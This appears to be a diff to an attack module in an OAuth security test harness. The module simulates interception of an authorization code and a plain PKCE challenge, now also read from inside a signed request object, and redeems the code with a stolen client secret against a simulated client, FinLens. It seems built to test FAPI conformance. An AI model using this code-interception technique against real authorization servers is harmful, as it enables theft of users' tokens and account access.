@@ -5,12 +5,14 @@ A3a + A3b + A4 together: the attacker reads the front-channel authorization requ
 before FinLens redeemed the code, and FinLens's client secret from an earlier token
 request. RFC 7636 §4.2: with plain, code_challenge = code_verifier, so the "proof" was
 public all along (§7.2: plain only when S256 is impossible; FAPI2 §5.3.2.2: S256 only).
+A signed request object (JAR) does not hide it: the attacker reads it inside the object.
 """
 
 from __future__ import annotations
 
 import base64
 
+from attacker import frontchannel as fc
 from attacker import token_support as ts
 from attacker.attack_context import AttackContext
 from attacker.attacks import Attack
@@ -38,17 +40,21 @@ def run(ctx: AttackContext) -> None:
     victim.link(stop="response")
     response = ctx.capture.last("authz_response", where=lambda x: "code" in x.location_params())
     params = response.location_params()
-    front = [x for x in ctx.capture.all("authz_request") if x.query().get("code_challenge")]
+    # in the query, or inside a signed request object (JAR signs it, it does not hide it)
+    front = [(x, fc.request_params(x.query())) for x in ctx.capture.all("authz_request")]
+    front = [(x, asked) for x, asked in front if asked.get("code_challenge")]
     if not front:
         ctx.failed("no code_challenge crossed the front channel: FinLens pushed its request "
                    "(PAR) or used no PKCE")
-    request = front[-1]
+    request, asked = front[-1]
     ctx.capture.read.append(request)
-    challenge = request.query()["code_challenge"]
-    if request.query().get("code_challenge_method", "plain") != "plain":
+    challenge = asked["code_challenge"]
+    if asked.get("code_challenge_method", "plain") != "plain":
         ctx.failed("the challenge is S256: the verifier cannot be derived from it")
-    ctx.step("attacker", "reads the plain code_challenge (authz_request leg) and the code of the "
-             "interrupted flow (authz_response leg)")
+    inside = "request" in request.query()
+    ctx.step("attacker", "reads the plain code_challenge (authz_request leg"
+             + (", inside the signed request object" if inside else "")
+             + ") and the code of the interrupted flow (authz_response leg)")
     signer = ctx.dpop_signer() if ts.dpop_required(ts.metadata(ctx)) else None
     form = {"grant_type": "authorization_code", "code": params["code"],
             "redirect_uri": ctx.url("tpp", "/callback"), "code_verifier": challenge, **fields}
